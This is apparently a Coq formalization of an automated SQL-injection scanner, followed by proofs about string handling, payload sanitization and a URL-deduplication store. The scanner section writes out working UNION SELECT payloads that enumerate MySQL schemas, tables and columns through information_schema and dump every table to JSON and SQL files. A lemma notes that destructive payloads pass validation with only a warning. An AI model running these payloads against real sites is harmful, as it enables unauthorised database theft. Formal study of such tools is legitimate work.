Definition extractSystemInfo (url : string) (columnCount : nat) (config : ScanConfig)
    : M unit :=
  log "INFO" "Extracting system information...";;
  forOf (systemInfoPayloads columnCount) (λ '(key, payload),
      sanitizedPayload ← sanitizePayload payload (maxPayloadLength config);
      tryCatch
        (testUrl ← newURL url;
         forParams testUrl (λ param testUrl,
             let testUrl := setParam param sanitizedPayload testUrl in
             data ← httpGet testUrl;
             match extractDataFromResponse data with
             | Some data => mutate (SetDatabaseInfo key data);; ret (testUrl, @None unit)
             | None => ret (testUrl, None)
             end);;
         delay (requestDelay config);;
         ret (@None unit))
        (λ message,
           log "WARN" ("Error extracting " +:+ keyName key +:+ ": " +:+ message);;
           ret None));;
  ret tt.

Definition schemaPayload (columnCount : nat) : string :=
  "' UNION SELECT CONCAT(schema_name,'::')," +:+ nulls columnCount +:+
  " FROM information_schema.schemata--".

Definition isUserSchema (schema : string) : bool :=
  negb (includes "information_schema" schema) && negb (includes "mysql" schema).

Definition extractDatabaseSchemas (url : string) (columnCount : nat) (config : ScanConfig)
    : M unit :=
  log "INFO" "Enumerating database schemas...";;
  payload ← sanitizePayload (schemaPayload columnCount) (maxPayloadLength config);
  tryCatch
    (testUrl ← newURL url;
     forParams testUrl (λ param testUrl,
         let testUrl := setParam param payload testUrl in
         data ← httpGet testUrl;
         let schemas := extractListFromResponse data in
         forOf (filter (λ schema, isUserSchema schema = true) schemas)
               (λ schema, mutate (AddDatabase schema);; ret (@None unit));;
         ret (testUrl, @None unit));;
     ret tt)
    (λ message, log "ERROR" ("Error extracting schemas: " +:+ message)).

Definition tablePayload (columnCount : nat) (dbName : string) : string :=
  "' UNION SELECT CONCAT(table_name,'::')," +:+ nulls columnCount +:+
  " FROM information_schema.tables WHERE table_schema='" +:+ dbName +:+ "'--".

Definition columnPayload (columnCount : nat) (dbName table : string) : string :=
  "' UNION SELECT CONCAT(column_name,'::')," +:+ nulls columnCount +:+
  " FROM information_schema.columns WHERE table_schema='" +:+ dbName +:+
  "' AND table_name='" +:+ table +:+ "'--".

(** The task dispatched for one table: it shares [testUrl] with the tasks of
    the other tables. *)
Definition columnsTask (columnCount : nat) (dbName param table : string)
    (config : ScanConfig) (testUrl : URL) : M (URL * Outcome unit) :=
  mutate (AddTable table);;
  match Utils.sanitizePayload (Str (columnPayload columnCount dbName table))
                              (maxPayloadLength config) with
  | Throw message => ret (testUrl, Throw message)
  | Ok columnPayload =>
      let testUrl := setParam param columnPayload testUrl in
      columnResponse ← settle (httpGet testUrl);
      match columnResponse with
      | Throw message => ret (testUrl, Throw message)
      | Ok data =>
          let columns := extractListFromResponse data in
          mutate (PushColumns (map (λ col, dbName +:+ "." +:+ table +:+ "." +:+ col) columns));;
          ret (testUrl, Ok tt)
      end
  end.

Definition extractDatabaseStructure (url : string) (columnCount : nat) (dbName : string)
    (config : ScanConfig) : M unit :=
  log "INFO" ("Extracting structure for database: " +:+ dbName);;
  tablePayload ← sanitizePayload (tablePayload columnCount dbName) (maxPayloadLength config);
  tryCatch
    (testUrl ← newURL url;
     forParams testUrl (λ param testUrl,
         let testUrl := setParam param tablePayload testUrl in
         data ← httpGet testUrl;
         let tables := extractListFromResponse data in
         pLimit (maxConcurrency config);;
         '(testUrl, o) ← promiseAll
             (map (λ table, columnsTask columnCount dbName param table config) tables) testUrl;
         lift o;;
         ret (testUrl, @None unit));;
     ret tt)
    (λ message,
       log "ERROR" ("Error extracting structure for " +:+ dbName +:+ ": " +:+ message)).

Definition dumpPayload (columnCount : nat) (table : string) (columns : list string) : string :=
  "' UNION SELECT CONCAT_WS('::'," +:+
  join "," (map (λ col, lastSegment "." "" col) columns) +:+ ")," +:+
  nulls columnCount +:+ " FROM " +:+ table +:+ "--".

(** The task dispatched for one table by [dumpAllTables]. *)
Definition dumpTask (url : string) (columnCount : nat) (config : ScanConfig)
    (table : string) : M unit :=
  log "INFO" ("Dumping table: " +:+ table);;
  result ← getResult;
  let columns := filter (λ col, includes table col = true) (columns result) in
  if bool_decide (length columns = 0%nat) then
    log "WARN" ("No columns found for table " +:+ table)
  else
    dumpPayload ← sanitizePayload (dumpPayload columnCount table columns)
                                  (maxPayloadLength config);
    tryCatch
      (testUrl ← newURL url;
       forParams testUrl (λ param testUrl,
           let testUrl := setParam param dumpPayload testUrl in
           data ← httpGet testUrl;
           let extractedData := extractListFromResponse data in
           if bool_decide (0 < length extractedData)%nat
           then mutate (SetTableData table extractedData);; ret (testUrl, @None unit)
           else ret (testUrl, None));;
       ret tt)
      (λ message, log "ERROR" ("Error dumping table " +:+ table +:+ ": " +:+ message)).

Definition dumpAllTables (url : string) (columnCount : nat) (config : ScanConfig) : M unit :=
  log "INFO" "Attempting to dump all tables...";;
  pLimit (maxConcurrency config);;
  result ← getResult;
  awaitAll (map (dumpTask url columnCount config) (tables result)).

(** [saveResultsToJSON] and [saveResultsToSQL]: the text written is not part
    of the model, the write and its failure are. *)
Definition saveResultsToJSON (outputFile : string) : M unit :=
  perform (WriteFile outputFile);;
  match writeFile outputFile with
  | None => log "INFO" ("Results saved to " +:+ outputFile)
  | Some message => log "ERROR" ("Error saving JSON results: " +:+ message);; throw message
  end.

Definition saveResultsToSQL (outputFile : string) : M unit :=
  perform (WriteFile outputFile);;
  match writeFile outputFile with
  | None => log "INFO" ("SQL dump saved to " +:+ outputFile)
  | Some message => log "ERROR" ("Error saving SQL dump: " +:+ message);; throw message
  end.

Definition testSQLInjection (url : string) (config : PartialScanConfig)
    : M SQLInjectionResult :=
  if negb (Utils.validateUrl url) then
    log "ERROR" "Invalid URL provided";; throw "Invalid URL provided"
  else
    let scanConfig := spread SCAN_CONFIG config in
    tryCatch
      (isVulnerable ← testBasicVulnerability url scanConfig;
       if negb isVulnerable then
         log "INFO" "No vulnerabilities detected";; getResult
       else
         mutate SetVulnerable;;
         log "INFO" "Basic vulnerability confirmed, starting comprehensive scan...";;
         columnCount ← findColumnCount url scanConfig;
         if bool_decide (columnCount ≤ 0)%nat then
           log "WARN" "No columns found, stopping scan";; getResult
         else
           log "INFO" ("Found " +:+ showZ (Z.of_nat columnCount) +:+ " columns");;
           awaitAll [ extractSystemInfo url columnCount scanConfig;
                      extractDatabaseSchemas url columnCount scanConfig ];;
           pLimit (maxConcurrency scanConfig);;
           result ← getResult;
           awaitAll (map (λ dbName, extractDatabaseStructure url columnCount dbName scanConfig)
                         (databases result));;
           dumpAllTables url columnCount scanConfig;;
           let domain := default "unknown" (UrlStore.truthy (Utils.extractDomain url)) in
           let timestamp := formatTimestamp in
           awaitAll
             [ saveResultsToJSON ("sql_injection_" +:+ Utils.sanitizeFilename domain +:+ "_" +:+
                                  timestamp +:+ ".json");
               saveResultsToSQL ("sql_dump_" +:+ Utils.sanitizeFilename domain +:+ "_" +:+
                                 timestamp +:+ ".sql") ];;
           getResult)
      (λ message, log "ERROR" ("Fatal error during scan: " +:+ message);; throw message).

(** A scan starts from the fresh result object and an empty trace. *)
Definition initialWorld : World := mkWorld emptyResult [].

Definition run (url : string) (config : PartialScanConfig)
    : Outcome SQLInjectionResult * World :=
  testSQLInjection url config initialWorld.

End Stages.

End Scanner.

(** * Properties *)

(** ** Strings *)

Section StringFacts.

Lemma append_nil_l s : "" +:+ s = s.
Proof. reflexivity. Qed.

Lemma append_cons c a b : String c a +:+ b = String c (a +:+ b).
Proof. reflexivity. Qed.

Lemma append_nil_r s : s +:+ "" = s.
Proof. induction s as [|c s IH]; [done | by rewrite append_cons, IH]. Qed.

Lemma append_assoc a b c : (a +:+ b) +:+ c = a +:+ b +:+ c.
Proof. induction a as [|x a IH]; [done | by rewrite !append_cons, IH]. Qed.

Lemma append_length a b : String.length (a +:+ b) = (String.length a + String.length b)%nat.
Proof. induction a as [|x a IH]; [done | rewrite append_cons; simpl; by rewrite IH]. Qed.

Lemma startsWith_spec p s : startsWith p s = true ↔ ∃ r, s = p +:+ r.
Proof.
  revert s. induction p as [|a p IH]; intros s; simpl.
  - split; eauto.
  - destruct s as [|b s].
    + split; [done | intros [r [=]]].
    + rewrite andb_true_iff, bool_decide_eq_true, IH. split.
      * intros [-> [r ->]]. exists r. by rewrite append_cons.
      * intros [r Hr]. rewrite append_cons in Hr. injection Hr as -> ->. eauto.
Qed.

Lemma includes_spec p s : includes p s = true ↔ ∃ l r, s = l +:+ p +:+ r.
Proof.
  induction s as [|c s IH]; simpl.
  - rewrite orb_false_r, startsWith_spec. split.
    + intros [r ->]. by exists "", r.
    + intros (l & r & Hs). destruct l; [eauto | by rewrite append_cons in Hs].
  - rewrite orb_true_iff, startsWith_spec, IH. split.
    + intros [[r ->] | (l & r & ->)]; [by exists "", r | by exists (String c l), r].
    + intros (l & r & Hs). destruct l as [|d l].
      * left. eauto.
      * right. rewrite append_cons in Hs. injection Hs as -> ->. eauto.
Qed.

Lemma includes_cons p c s : includes p s = true → includes p (String c s) = true.
Proof. simpl. intros ->. apply orb_true_r. Qed.

Lemma includes_app_r p l s : includes p s = true → includes p (l +:+ s) = true.
Proof.
  induction l; [done | intros ?; rewrite append_cons; simpl; rewrite IHl by done; apply orb_true_r].
Qed.

Lemma startsWith_includes p s : startsWith p s = true → includes p s = true.
Proof. destruct s; simpl; intros ->; done. Qed.

(** Characters of a string. *)
Fixpoint chars (s : string) : list ascii :=
  match s with
  | EmptyString => []
  | String c r => c :: chars r
  end.

Lemma chars_app a b : chars (a +:+ b) = chars a ++ chars b.
Proof. induction a; [done | rewrite append_cons; simpl; congruence]. Qed.

Lemma chars_length s : length (chars s) = String.length s.
Proof. induction s; simpl; congruence. Qed.

Lemma chars_inj a b : chars a = chars b → a = b.
Proof. revert b. induction a; intros [|??]; simpl; intros [=]; f_equal; auto. Qed.

Lemma chars_removeChars cls s :
  chars (removeChars cls s) = filter (λ c, cls c = false) (chars s).
Proof.
  induction s as [|c s IH]; simpl; [done|].
  rewrite filter_cons. case_decide as E; destruct (cls c); try done; simpl; congruence.
Qed.

Lemma trimStart_suffix s : ∃ l, chars s = l ++ chars (trimStart s).
Proof.
  induction s as [|c s [l IH]]; simpl; [by exists []|].
  destruct (isWhiteSpace c).
  - exists (c :: l). simpl. congruence.
  - by exists [].
Qed.

Lemma trimEnd_prefix s : ∃ r, chars s = chars (trimEnd s) ++ r.
Proof.
  induction s as [|c s [r IH]]; simpl; [by exists []|].
  destruct (trimEnd s) as [|d t] eqn:E.
  - destruct (isWhiteSpace c).
    + exists (c :: chars s). done.
    + exists r. simpl in *. congruence.
  - exists r. simpl in *. congruence.
Qed.

(** What [trim] returns is a segment of its argument. *)
Lemma trim_segment s : ∃ l r, chars s = l ++ chars (trim s) ++ r.
Proof.
  unfold trim. destruct (trimStart_suffix s) as [l Hl].
  destruct (trimEnd_prefix (trimStart s)) as [r Hr].
  exists l, r. congruence.
Qed.

Lemma trim_length s : (String.length (trim s) ≤ String.length s)%nat.
Proof.
  destruct (trim_segment s) as (l & r & Hs).
  rewrite <- !chars_length, Hs, !length_app. lia.
Qed.

Lemma trim_chars c s : c ∈ chars (trim s) → c ∈ chars s.
Proof.
  destruct (trim_segment s) as (l & r & ->). set_solver.
Qed.

Lemma removeChars_length cls s : (String.length (removeChars cls s) ≤ String.length s)%nat.
Proof. induction s; simpl; [done | destruct (cls _); simpl; lia]. Qed.

(** A string is blank when [trim] leaves nothing of it. *)
Definition isBlank (s : string) : bool := forallb isWhiteSpace (chars s).

Lemma trimStart_blank s : trimStart s = "" ↔ isBlank s = true.
Proof.
  unfold isBlank. induction s as [|c s IH]; simpl; [done|].
  destruct (isWhiteSpace c); simpl; [done | split; done].
Qed.

Lemma trimEnd_empty s : trimEnd s = "" ↔ isBlank s = true.
Proof.
  unfold isBlank. induction s as [|c s IH]; simpl; [done|].
  destruct (trimEnd s) eqn:E.
  - destruct (isWhiteSpace c); simpl; [tauto | split; intros; discriminate].
  - split; [done|]. rewrite andb_true_iff. intros [_ Hs]. apply IH in Hs. done.
Qed.

Lemma trimStart_head c r s : trimStart s = String c r → isWhiteSpace c = false.
Proof.
  induction s as [|d s IH]; simpl; [done|].
  destruct (isWhiteSpace d) eqn:E; [done | congruence].
Qed.

Lemma trim_blank s : trim s = "" ↔ isBlank s = true.
Proof.
  unfold trim. rewrite trimEnd_empty. split.
  - intros Hb. apply trimStart_blank. destruct (trimStart s) as [|c r] eqn:E; [done|].
    apply trimStart_head in E. unfold isBlank in Hb. simpl in Hb. by rewrite E in Hb.
  - intros Hb. apply trimStart_blank in Hb. by rewrite Hb.
Qed.

End StringFacts.

(** ** Marker extraction *)

Section Markers.
Import Scanner.

Lemma spanMarker_app s : s = (spanMarker s).1 +:+ (spanMarker s).2.
Proof.
  induction s as [|c s IH]; simpl; [done|].
  destruct (isMarkerChar c); [|done].
  destruct (spanMarker s) as [run rest]. simpl in *. rewrite append_cons. congruence.
Qed.

Lemma matchMarkerAt_includes s x : matchMarkerAt s = Some x → includes "::" s = true.
Proof.
  unfold matchMarkerAt. pose proof (spanMarker_app s) as Hs.
  destruct (spanMarker s) as [run rest]. simpl in Hs.
  destruct (negb _ && startsWith "::" rest) eqn:E; [|done].
  intros _. apply andb_true_iff in E as [_ E].
  rewrite Hs. by apply includes_app_r, startsWith_includes.
Qed.

Lemma firstMarker_includes s x : firstMarker s = Some x → includes "::" s = true.
Proof.
  induction s as [|c s IH]; simpl.
  - destruct (matchMarkerAt "") as [[run n]|] eqn:E; [|done].
    intros _. by apply matchMarkerAt_includes in E.
  - destruct (matchMarkerAt (String c s)) as [[run n]|] eqn:E.
    + intros _. by apply matchMarkerAt_includes in E.
    + intros Hs. apply IH in Hs. simpl. rewrite Hs. apply orb_true_r.
Qed.

(** C7.  The body ["admin::"] yields the value ["admin"], and a body in which
    ["::"] does not occur yields no value ([null]). *)
Theorem C7_marker_extraction :
  extractDataFromResponse "admin::" = Some "admin" ∧
  ∀ body, includes "::" body = false → extractDataFromResponse body = None.
Proof.
  split; [reflexivity|].
  intros body Hno. unfold extractDataFromResponse.
  destruct (firstMarker body) as [x|] eqn:E; [|done].
  apply firstMarker_includes in E. congruence.
Qed.

End Markers.

(** ** Validation of catalog items *)

Section Validation.
Import Config.

Lemma length_zero s : String.length s = 0%nat ↔ s = "".
Proof. destruct s; simpl; split; done. Qed.

Lemma validateItem_string s type :
  (validateItem (Str s) type).1 = negb (isBlank s).
Proof.
  unfold validateItem. case_bool_decide as Hlen.
  - apply length_zero, trim_blank in Hlen. by rewrite Hlen.
  - assert (isBlank s = false) as ->.
    { destruct (isBlank s) eqn:E; [|done]. apply trim_blank in E. by rewrite E in Hlen. }
    by case_bool_decide.
Qed.

(** C8.  [validateItem(item, 'payload')] is false exactly for an item that is
    not a string or is a blank string; every other string is accepted, a
    string matching a destructive-statement pattern is accepted with the
    warning logged, and the catalog filter keeps it. *)
Theorem C8_validateItem_payload (item : Value) :
  ((validateItem item "payload").1 = false ↔
     isString item = false ∨ ∃ s, item = Str s ∧ isBlank s = true) ∧
  (∀ s, item = Str s → isBlank s = false →
     (validateItem item "payload").1 = true ∧
     (isDangerous s = true → dangerWarning s ∈ (validateItem item "payload").2) ∧
     ∀ items, item ∈ items → item ∈ validatePayloads items).
Proof.
  split.
  - destruct item as [| |b|n|s]; try (simpl; split; [by left | done]).
    rewrite validateItem_string, negb_false_iff. split.
    + intros Hb. right. eauto.
    + intros [? | (s' & [= <-] & ?)]; done.
  - intros s -> Hs.
    assert ((validateItem (Str s) "payload").1 = true) as Hok.
    { by rewrite validateItem_string, Hs. }
    split; [done | split].
    + intros Hd. unfold validateItem.
      case_bool_decide as Hlen.
      { apply length_zero, trim_blank in Hlen. congruence. }
      rewrite bool_decide_eq_true_2 by done. simpl.
      rewrite Hd. apply elem_of_app. right. apply list_elem_of_singleton. done.
    + intros items Hin. unfold validatePayloads. apply list_elem_of_filter. done.
Qed.

End Validation.

(** ** [sanitizePayload] *)

Section Sanitize.

(** What [sanitizePayload] promises of the string it returns. *)
Definition Sanitized (maxLength : Z) (p : string) : Prop :=
  Z.of_nat (String.length p) ≤ maxLength ∧
  (∀ c, c ∈ chars p → Utils.isBreakOrSemicolon c = false) ∧
  trim p = p.

Lemma trimEnd_idem s : trimEnd (trimEnd s) = trimEnd s.
Proof.
  induction s as [|c s IH]; simpl; [done|].
  destruct (trimEnd s) as [|d t] eqn:E.
  - destruct (isWhiteSpace c) eqn:Ec; simpl; [done | by rewrite Ec].
  - simpl in *. rewrite IH. done.
Qed.

Lemma trimStart_fixed s c r : s = String c r → isWhiteSpace c = false → trimStart s = s.
Proof. intros -> Hc. simpl. by rewrite Hc. Qed.

Lemma trimEnd_head c r : isWhiteSpace c = false → ∃ r', trimEnd (String c r) = String c r'.
Proof. intros Hc. simpl. destruct (trimEnd r); rewrite ?Hc; eauto. Qed.

Lemma trim_idem s : trim (trim s) = trim s.
Proof.
  unfold trim. destruct (trimStart s) as [|c r] eqn:E; [done|].
  pose proof (trimStart_head _ _ _ E) as Hc.
  destruct (trimEnd_head c r Hc) as [r' Hr]. rewrite Hr.
  rewrite (trimStart_fixed _ c r' eq_refl Hc), <- Hr. apply trimEnd_idem.
Qed.

Lemma sanitizePayload_throws payload maxLength :
  (∃ message, Utils.sanitizePayload payload maxLength = Throw message) ↔
  isString payload = false ∨
  ∃ s, payload = Str s ∧ Z.of_nat (String.length s) > maxLength.
Proof.
  destruct payload as [| |b|n|s]; simpl; try (split; [by left | eauto]).
  destruct (Z.gtb_spec (Z.of_nat (String.length s)) maxLength) as [Hgt|Hle].
  - split; [|eauto]. intros _. right. exists s. split; [done | lia].
  - split; [by intros [? [=]]|]. intros [? | (s' & [= <-] & ?)]; [done | lia].
Qed.

Lemma sanitizePayload_ok s maxLength p :
  Utils.sanitizePayload (Str s) maxLength = Ok p →
  p = trim (removeChars Utils.isBreakOrSemicolon s) ∧ Sanitized maxLength p.
Proof.
  simpl. destruct (Z.gtb_spec (Z.of_nat (String.length s)) maxLength) as [Hgt|Hle]; [done|].
  intros [= <-]. split; [done|]. split; [|split].
  - pose proof (trim_length (removeChars Utils.isBreakOrSemicolon s)).
    pose proof (removeChars_length Utils.isBreakOrSemicolon s). lia.
  - intros c Hc%trim_chars. rewrite chars_removeChars in Hc.
    by apply list_elem_of_filter in Hc as [? _].
  - apply trim_idem.
Qed.

Lemma sanitizePayload_fits s maxLength :
  Z.of_nat (String.length s) ≤ maxLength →
  Utils.sanitizePayload (Str s) maxLength = Ok (trim (removeChars Utils.isBreakOrSemicolon s)).
Proof.
  intros Hle. simpl. destruct (Z.gtb_spec (Z.of_nat (String.length s)) maxLength); [lia | done].
Qed.

End Sanitize.

(** ** The URL store *)

Section StoreFacts.
Import UrlStore.
Context `{UrlParser}.

Lemma isUrlTested_tested now url s : testedUrls (isUrlTested now url s).2 = testedUrls s.
Proof.
  unfold isUrlTested. repeat (case_bool_decide || case_match); done.
Qed.

Lemma perform_tested op s : testedUrls s ⊆ testedUrls (perform op s).
Proof.
  destruct op; simpl.
  - by rewrite isUrlTested_tested.
  - unfold markUrlAsTested. case_match; simpl; set_solver.
  - done.
  - done.
Qed.

Lemma performAll_tested ops s : testedUrls s ⊆ testedUrls (performAll ops s).
Proof.
  revert s. induction ops as [|op ops IH]; intros s; simpl; [done|].
  etrans; [apply (perform_tested op) | apply IH].
Qed.

Lemma markUrlAsTested_tested now url s :
  normalizeUrl url ∈ testedUrls (markUrlAsTested now url s).
Proof. unfold markUrlAsTested. case_match; simpl; set_solver. Qed.

Lemma isUrlTested_known now url s :
  normalizeUrl url ∈ testedUrls s → isUrlTested now url s = (true, s).
Proof. intros Hin. unfold isUrlTested. by rewrite bool_decide_eq_true_2. Qed.

(** C2.  Once [markUrlAsTested(u)] has run, and whatever the store is asked to
    do afterwards, the admission check of a URL with the normalized form of
    [u] answers true, and the gate does not admit it a second time. *)
Theorem C2_tested_at_most_once now url s ops now' url' :
  normalizeUrl url' = normalizeUrl url →
  let s' := performAll ops (markUrlAsTested now url s) in
  (isUrlTested now' url' s').1 = true ∧ (submit now' url' s').1 = false.
Proof.
  intros Hnorm s'.
  assert (normalizeUrl url' ∈ testedUrls s') as Hin.
  { rewrite Hnorm. apply performAll_tested, markUrlAsTested_tested. }
  unfold submit. rewrite (isUrlTested_known _ _ _ Hin). simpl.
  by rewrite andb_false_r.
Qed.

(** *** The per-domain limit *)

(** No domain record holds more paths than the configuration allows. *)
Definition bounded (s : URLStore) : Prop :=
  ∀ domain paths, seenDomains s !! domain = Some paths →
    Z.of_nat (size paths) ≤ maxPathsPerDomain (config s).

(** After an admission check that answers false, the record of the URL's
    domain, if any, has room for one more path. *)
Definition hasRoom (url : string) (s : URLStore) : Prop :=
  ∀ domain paths, truthy (getDomain url) = Some domain →
    seenDomains s !! domain = Some paths →
    Z.of_nat (size paths) + 1 ≤ maxPathsPerDomain (config s).

(** The store an admission check leaves when it resets a domain. *)
Definition reset (now : Z) (domain : string) (s : URLStore) : URLStore :=
  mkStore (config s) (testedUrls s) (vulnerableUrls s)
          (<[domain := ∅]> (seenDomains s)) (<[domain := now]> (lastTestedTime s)).

(** The three ways an admission check can go. *)
Lemma isUrlTested_cases now url s :
  isUrlTested now url s = (true, s) ∨
  (isUrlTested now url s = (false, s) ∧ (normalizeUrl url ∉ testedUrls s) ∧
   ∀ domain paths, truthy (getDomain url) = Some domain →
     seenDomains s !! domain = Some paths →
     Z.of_nat (size paths) < maxPathsPerDomain (config s)) ∨
  (∃ domain paths,
     truthy (getDomain url) = Some domain ∧ seenDomains s !! domain = Some paths ∧
     (normalizeUrl url ∉ testedUrls s) ∧
     maxPathsPerDomain (config s) ≤ Z.of_nat (size paths) ∧
     cooldownPeriod (config s) ≤ now - default 0 (lastTestedTime s !! domain) ∧
     isUrlTested now url s = (false, reset now domain s)).
Proof.
  unfold isUrlTested. case_bool_decide as Hin; [by left|].
  destruct (truthy (getDomain url)) as [domain|] eqn:Hd.
  - destruct (seenDomains s !! domain) as [paths|] eqn:Hp.
    + case_bool_decide as Hfull.
      * case_bool_decide as Hcool; [by left|].
        right. right. exists domain, paths. repeat split; try done; lia.
      * right. left. repeat split; try done.
        intros d ps [= <-] Hps. rewrite Hp in Hps. injection Hps as <-. lia.
    + right. left. repeat split; try done. intros d ps [= <-] Hps. congruence.
  - right. left. repeat split; try done.
Qed.

Lemma isUrlTested_config now url s : config (isUrlTested now url s).2 = config s.
Proof.
  destruct (isUrlTested_cases now url s) as [-> | [(-> & _) | (d & ps & _ & _ & _ & _ & _ & ->)]];
    done.
Qed.

Lemma markUrlAsTested_config now url s : config (markUrlAsTested now url s) = config s.
Proof. unfold markUrlAsTested. by case_match. Qed.

Lemma reset_bounded now domain s :
  0 ≤ maxPathsPerDomain (config s) → bounded s → bounded (reset now domain s).
Proof.
  intros Hmax Hb d paths. simpl.
  destruct (decide (d = domain)) as [->|Hne].
  - rewrite lookup_insert_eq. intros [= <-]. rewrite size_empty. lia.
  - rewrite lookup_insert_ne by done. apply Hb.
Qed.

Lemma isUrlTested_bounded now url s :
  0 ≤ maxPathsPerDomain (config s) → bounded s → bounded (isUrlTested now url s).2.
Proof.
  intros Hmax Hb.
  destruct (isUrlTested_cases now url s) as [-> | [(-> & _) | (d & ps & _ & _ & _ & _ & _ & ->)]];
    simpl; auto using reset_bounded.
Qed.

Lemma isUrlTested_room now url s :
  1 ≤ maxPathsPerDomain (config s) →
  (isUrlTested now url s).1 = false → hasRoom url (isUrlTested now url s).2.
Proof.
  intros Hmax.
  destruct (isUrlTested_cases now url s)
    as [-> | [(-> & _ & Hlt) | (d & ps & Hd & _ & _ & _ & _ & ->)]]; simpl; [done | |].
  - intros _ domain paths Hdom Hp. specialize (Hlt _ _ Hdom Hp). lia.
  - intros _ domain paths Hdom. rewrite Hd in Hdom. injection Hdom as <-.
    unfold reset. simpl. rewrite lookup_insert_eq. intros [= <-]. rewrite size_empty. lia.
Qed.

Lemma size_add_path (path : string) (paths : gset string) :
  (size ({[path]} ∪ paths) ≤ 1 + size paths)%nat.
Proof.
  rewrite size_union_alt, size_singleton.
  assert (size (paths ∖ {[path]}) ≤ size paths)%nat; [by apply subseteq_size, subseteq_difference_l | lia].
Qed.

Lemma markUrlAsTested_bounded now url s :
  1 ≤ maxPathsPerDomain (config s) → hasRoom url s → bounded s →
  bounded (markUrlAsTested now url s).
Proof.
  intros Hmax Hroom Hb. unfold markUrlAsTested.
  destruct (truthy (getDomain url)) as [domain|] eqn:Hd; [|exact Hb].
  intros d paths. simpl.
  destruct (decide (d = domain)) as [->|Hne].
  - rewrite lookup_insert_eq. intros [= <-].
    pose proof (size_add_path (pathOf url)) as Hadd.
    destruct (seenDomains s !! domain) as [old|] eqn:Hold.
    + rewrite Hold. cbn [from_option id]. specialize (Hroom _ _ Hd Hold). specialize (Hadd old). lia.
    + rewrite lookup_insert_eq. cbn [from_option id]. specialize (Hadd ∅).
      rewrite size_empty in Hadd. lia.
  - rewrite lookup_insert_ne by done.
    destruct (seenDomains s !! domain); [apply Hb|].
    rewrite lookup_insert_ne by done. apply Hb.
Qed.

Lemma submit_config now url s : config (submit now url s).2 = config s.
Proof.
  unfold submit. pose proof (isUrlTested_config now url s) as Hc.
  destruct (isUrlTested now url s) as [tested s1]. simpl in Hc.
  destruct (Utils.validateUrl url && negb tested); simpl; [|done].
  by rewrite markUrlAsTested_config.
Qed.

Lemma submit_bounded now url s :
  1 ≤ maxPathsPerDomain (config s) → bounded s → bounded (submit now url s).2.
Proof.
  intros Hmax Hb. unfold submit.
  pose proof (isUrlTested_config now url s) as Hc.
  pose proof (isUrlTested_bounded now url s ltac:(lia) Hb) as Hb1.
  pose proof (isUrlTested_room now url s Hmax) as Hroom.
  destruct (isUrlTested now url s) as [tested s1]. simpl in *.
  destruct (Utils.validateUrl url); simpl; [|done].
  destruct tested; simpl; [done|].
  apply markUrlAsTested_bounded; auto. by rewrite Hc.
Qed.

(** A sequence of submissions, each at its own time. *)
Definition submitAll (submissions : list (Z * string)) (s : URLStore) : URLStore :=
  foldl (λ s '(now, url), (submit now url s).2) s submissions.

Lemma submitAll_bounded submissions s :
  1 ≤ maxPathsPerDomain (config s) → bounded s → bounded (submitAll submissions s).
Proof.
  revert s. induction submissions as [|[now url] rest IH]; intros s Hmax Hb; simpl; [done|].
  apply IH; [by rewrite submit_config | by apply submit_bounded].
Qed.

(** *** The admission check and the commit, case by case *)

Lemma normalizeUrl_parsed url u :
  parseURL url = Some u → normalizeUrl url = origin u +:+ pathname u.
Proof. unfold normalizeUrl. by intros ->. Qed.

Lemma getDomain_parsed url u :
  parseURL url = Some u → hostname u ≠ "" → truthy (getDomain url) = Some (hostname u).
Proof.
  unfold getDomain, Utils.extractDomain, truthy. intros -> Hne.
  by rewrite bool_decide_eq_false_2.
Qed.

Lemma isUrlTested_unseen now url s domain :
  normalizeUrl url ∉ testedUrls s → truthy (getDomain url) = Some domain →
  seenDomains s !! domain = None → isUrlTested now url s = (false, s).
Proof.
  intros Hn Hd Hs. unfold isUrlTested.
  by rewrite bool_decide_eq_false_2, Hd, Hs by done.
Qed.

Lemma isUrlTested_below now url s domain paths :
  normalizeUrl url ∉ testedUrls s → truthy (getDomain url) = Some domain →
  seenDomains s !! domain = Some paths →
  Z.of_nat (size paths) < maxPathsPerDomain (config s) →
  isUrlTested now url s = (false, s).
Proof.
  intros Hn Hd Hs Hlt. unfold isUrlTested.
  rewrite bool_decide_eq_false_2, Hd, Hs by done.
  by rewrite bool_decide_eq_false_2 by lia.
Qed.

Lemma isUrlTested_limited now url s domain paths :
  normalizeUrl url ∉ testedUrls s → truthy (getDomain url) = Some domain →
  seenDomains s !! domain = Some paths →
  maxPathsPerDomain (config s) ≤ Z.of_nat (size paths) →
  now - default 0 (lastTestedTime s !! domain) < cooldownPeriod (config s) →
  isUrlTested now url s = (true, s).
Proof.
  intros Hn Hd Hs Hfull Hcool. unfold isUrlTested.
  rewrite bool_decide_eq_false_2, Hd, Hs by done.
  rewrite bool_decide_eq_true_2 by lia. by rewrite bool_decide_eq_true_2.
Qed.

Lemma isUrlTested_reset now url s domain paths :
  normalizeUrl url ∉ testedUrls s → truthy (getDomain url) = Some domain →
  seenDomains s !! domain = Some paths →
  maxPathsPerDomain (config s) ≤ Z.of_nat (size paths) →
  cooldownPeriod (config s) ≤ now - default 0 (lastTestedTime s !! domain) →
  isUrlTested now url s = (false, reset now domain s).
Proof.
  intros Hn Hd Hs Hfull Hcool. unfold isUrlTested.
  rewrite bool_decide_eq_false_2, Hd, Hs by done.
  rewrite bool_decide_eq_true_2 by lia. by rewrite bool_decide_eq_false_2 by lia.
Qed.

Lemma markUrlAsTested_testedUrls now url s :
  testedUrls (markUrlAsTested now url s) = {[normalizeUrl url]} ∪ testedUrls s.
Proof. unfold markUrlAsTested. by case_match. Qed.

Lemma markUrlAsTested_seen now url s domain :
  truthy (getDomain url) = Some domain →
  seenDomains (markUrlAsTested now url s) !! domain =
    Some ({[pathOf url]} ∪ default ∅ (seenDomains s !! domain)).
Proof.
  intros Hd. unfold markUrlAsTested. rewrite Hd. simpl. rewrite lookup_insert_eq.
  destruct (seenDomains s !! domain) eqn:E; [by rewrite E | by rewrite lookup_insert_eq].
Qed.

Lemma markUrlAsTested_last now url s domain :
  truthy (getDomain url) = Some domain →
  lastTestedTime (markUrlAsTested now url s) !! domain = Some now.
Proof. intros Hd. unfold markUrlAsTested. rewrite Hd. simpl. apply lookup_insert_eq. Qed.

Lemma submit_admitted now url s :
  Utils.validateUrl url = true → (isUrlTested now url s).1 = false →
  submit now url s = (true, markUrlAsTested now url (isUrlTested now url s).2).
Proof.
  intros Hv Ht. unfold submit. rewrite Hv.
  destruct (isUrlTested now url s) as [tested s']. simpl in *. by subst.
Qed.

Lemma submit_rejected now url s :
